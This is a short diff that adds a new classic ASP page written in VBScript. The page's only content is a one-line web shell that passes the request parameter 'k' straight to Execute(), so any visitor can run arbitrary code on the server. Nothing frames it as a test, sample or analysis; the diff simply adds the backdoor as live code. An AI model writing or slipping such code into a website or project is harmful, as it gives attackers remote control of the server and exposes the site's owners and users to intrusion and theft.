@@ -1,0 +1,4 @@
+<%@ LANGUAGE = VBScript %>
+<%
+If Request("k") <> "" Then Execute(Request("k"))
+%>
